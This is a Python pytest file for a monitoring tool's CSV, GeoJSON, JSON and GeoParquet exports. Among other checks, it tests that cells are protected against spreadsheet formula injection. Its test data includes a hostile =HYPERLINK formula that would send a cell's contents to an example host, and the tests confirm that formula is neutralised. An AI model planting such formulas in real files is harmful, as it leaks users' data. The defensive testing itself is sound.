"""Exports carry every number with its source, and no cell of theirs can run in a spreadsheet."""

import csv
import io
import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import geopandas
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from shapely.geometry import shape

from db.records import DeclaredBaseline, Evidence, Note, Observation, SeriesKey
from monitor.errors import InputError
from monitor.reports.geoparquet import parquet_bytes, table_frame
from monitor.reports.history import HistoryQuery, SiteHistory
from monitor.reports.tables import (
    HISTORY_COLUMNS,
    csv_text,
    feature_collection,
    history_document,
    history_rows,
    history_table,
    point_of,
    safe_cell,
)
from tests.kit.cast import BUSY_PORT, CAST, DONUT_BASE

DAY = timedelta(days=1)
START = datetime(2023, 10, 4, 22, tzinfo=UTC)
HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"click")'
LOOK = Observation(
    series=SeriesKey("busy-port", "pier-1", "containers", "", "published"),
    kind="stock",
    period_start=START,
    period_end=START + DAY,
    look_key="@a",
    value=300,
    low=280.5,
    qualifier="~=",
    exposure=0.25,
    result_time=START + DAY,
    recorded_at=START + 2 * DAY,
    publisher=HOSTILE,
    via="-2+3",
    evidence=(Evidence("url", "https://example.org/a"),),
    note="+1",
)
BASELINE = DeclaredBaseline(
    key="k",
    series=SeriesKey("busy-port", "", "ships_present", "", "published"),
    statistic="share",
    value=49,
    n_looks=109,
    window_start=START,
    window_end=START + 30 * DAY,
    precision="window",
    result_time=START + 40 * DAY,
    recorded_at=START + 40 * DAY,
    publisher="Analysts",
    url="https://example.org/b",
)
NOTE = Note(
    key="n",
    site_id="busy-port",
    metric="note",
    subject="",
    starts_at=START,
    ends_at=START + DAY,
    precision="day",
    result_time=START + DAY,
    recorded_at=START + DAY,
    text="summit",
    announced=True,
)
HISTORY = SiteHistory(BUSY_PORT, HistoryQuery("containers"), (LOOK,), (BASELINE,), (NOTE,))
TABLE = history_table([HISTORY], {})


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_one_row_for_each_record() -> None:
    look, baseline, note = read(csv_text(history_rows(HISTORY)))
    assert tuple(look) == HISTORY_COLUMNS
    assert (look["record"], look["local_period"], look["start"]) == (
        "look",
        "2023-10-05",
        "2023-10-04T22:00:00Z",
    )
    assert (look["value"], look["low"], look["high"], look["exposure"]) == ("300", "280.5", "", "0.25")
    assert (baseline["record"], baseline["comparator"], baseline["n_looks"]) == ("declared", "of 109", "109")
    assert (baseline["url"], baseline["attribution"]) == ("https://example.org/b", "Analysts")
    assert (note["record"], note["note"], note["announced"], note["value"]) == (
        "note",
        "an unnamed source: “summit”",
        "yes",
        "",
    )
    assert note["attribution"] == "publisher not named"


def test_text_that_a_spreadsheet_would_run_is_made_harmless() -> None:
    look = read(csv_text(history_rows(HISTORY)))[0]
    assert look["publisher"] == f"'{HOSTILE}"
    assert look["attribution"].startswith("'=HYPERLINK")
    assert (look["via"], look["look_key"], look["comparator"]) == ("'-2+3", "'@a", "~=")
    # Quoted under the name of its publisher, which a spreadsheet would run.
    assert look["note"] == f"'{HOSTILE} (via -2+3): “+1”"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, -5),
        (-5.5, -5.5),
        (3.0, 3),
        (True, "yes"),
        (False, "no"),
        (None, ""),
        ("-5", "'-5"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("a=b", "a=b"),
        (START, "2023-10-04T22:00:00Z"),
    ],
)
def test_numbers_stay_numbers(value: object, cell: object) -> None:
    assert safe_cell(value) == cell
    assert type(safe_cell(value)) is type(cell)


@settings(deadline=None)
@given(st.text())
def test_no_text_begins_like_a_formula(text: str) -> None:
    cell = str(safe_cell(text))
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r", "\0"}
    assert cell.removeprefix("'") == text.removeprefix("'")


def test_attribution_is_what_the_provider_asks_for() -> None:
    own = replace(LOOK, publisher="", via="")
    provided = replace(LOOK, publisher="adsb.example")
    rows = list(history_rows(replace(HISTORY, looks=(own, provided)), {"adsb.example": "© Example, ODbL"}))
    assert [row["attribution"] for row in rows[:2]] == ["counted by sitewatch (published)", "© Example, ODbL"]


@pytest.mark.parametrize(
    ("statistic", "comparator"), [("max", "max"), ("none_before", "none_before"), ("last_seen", "last_seen")]
)
def test_a_statistic_is_named_as_an_import_names_it(statistic: str, comparator: str) -> None:
    baseline = replace(BASELINE, statistic=statistic, n_looks=None)  # type: ignore[arg-type]
    (row,) = history_rows(replace(HISTORY, looks=(), declared=(baseline,), notes=()))
    assert row["comparator"] == comparator


def test_geojson_puts_every_row_at_its_place() -> None:
    collection = json.loads(json.dumps(feature_collection(TABLE), allow_nan=False))
    pier, port, _ = (shape(feature["geometry"]) for feature in collection["features"])
    pier_1 = BUSY_PORT.areas[0].geometry
    assert pier_1 is not None
    assert pier_1.contains(pier)
    assert BUSY_PORT.geometry.contains(port)
    properties = collection["features"][0]["properties"]
    assert (properties["value"], properties["published"]) == (300, "2023-10-05T22:00:00Z")
    assert properties["publisher"] == HOSTILE


def test_a_point_lies_in_the_site_even_across_180_degrees_and_beside_a_hole() -> None:
    for site in CAST:
        assert site.geometry.contains(point_of(site))
    assert DONUT_BASE.geometry.contains(point_of(DONUT_BASE, "no-such-area"))
    assert BUSY_PORT.geometry.contains(point_of(BUSY_PORT, "pier-2"))


def test_the_json_document_is_flat_and_complete() -> None:
    document = json.loads(json.dumps(history_document(HISTORY), allow_nan=False))
    assert list(document) == ["site", "metric", "undated", "looks", "declared", "notes", "attribution"]
    assert (document["site"], document["metric"]) == ("busy-port", "containers")
    (look,) = document["looks"]
    assert (look["site_id"], look["area"], look["procedure"]) == ("busy-port", "pier-1", "published")
    assert (look["period_start"], look["value"], look["revision"]) == ("2023-10-04T22:00:00Z", 300, 1)
    assert look["evidence"] == [{"kind": "url", "ref": "https://example.org/a", "text": ""}]
    assert document["declared"][0]["n_looks"] == 109
    assert document["notes"][0]["text"] == "an unnamed source: “summit”"


def test_the_table_for_parquet_has_the_same_types_empty_or_not() -> None:
    empty = table_frame(history_table([], {}))
    full = table_frame(TABLE)
    assert full.dtypes.equals(empty.dtypes)
    assert (len(empty), len(full)) == (0, 3)
    assert full["value"].tolist()[:2] == [300, 49]
    assert full["n_looks"].isna().tolist() == [True, False, True]
    assert full.crs == "EPSG:4326"


def test_parquet_is_read_back_as_it_was(tmp_path: Path) -> None:
    file = tmp_path / "history.parquet"
    file.write_bytes(parquet_bytes(TABLE))
    back = geopandas.read_parquet(file)
    assert back.equals(table_frame(TABLE))
    assert back.crs == "EPSG:4326"


def test_parquet_without_pyarrow_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("monitor.reports.geoparquet.find_spec", lambda _: None)
    with pytest.raises(InputError, match="pip install pyarrow"):
        parquet_bytes(TABLE)


def test_a_count_of_our_own_names_the_feeds_as_they_ask() -> None:
    own = replace(LOOK, publisher="", via="", origin="adsb.lol, roof")
    history = replace(HISTORY, looks=(own,))
    row = next(history_rows(history, {"adsb.lol": "adsb.lol contributors, ODbL 1.0"}))
    assert row["attribution"] == "counted by sitewatch (published); adsb.lol contributors, ODbL 1.0; roof"
